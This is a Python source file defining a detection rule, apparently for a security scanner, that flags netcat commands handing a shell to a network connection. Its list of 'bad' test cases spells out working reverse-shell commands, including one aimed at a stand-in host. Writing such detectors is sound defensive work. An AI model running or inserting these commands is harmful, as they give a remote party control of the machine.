"""Netcat hands a shell to a connection."""

from __future__ import annotations

from symbi.contracts.scanner import Pattern, ScannerRule
from symbi_clawhavoc.words import SHELL_ARGUMENT

RULE = ScannerRule(
    id="reverse-shell-nc",
    category="reverse-shell",
    severity="critical",
    message="Netcat hands a shell to a network connection",
    check=Pattern(
        rf"(?:^|[^\w.@$-])(?:nc|netcat)(?:\.exe|\.traditional|\.openbsd)?(?:\s[^|;]*)?\s(?:-[a-z]*[ec]|--exec|--sh-exec)[\s=]*{SHELL_ARGUMENT}"
    ),
    bad=(
        "nc 10.0.0.1 4242 -e /bin/sh",
        "nc -e /bin/bash evil.example.com 4242",
        "nc.traditional -c /usr/bin/bash 10.0.0.1 4242",
        "netcat 10.0.0.1 4242 -e /bin/sh",
    ),
    good=("nc -l 8080", "nc -z db.example.com 5432", "rsync -e ssh a b:", "func -e /bin/sh-like", "nc --help"),
    remediation="Remove it; no skill needs to hand a shell to the network.",
    references=("https://attack.mitre.org/techniques/T1059/",),
    tags=("network", "execute"),
)
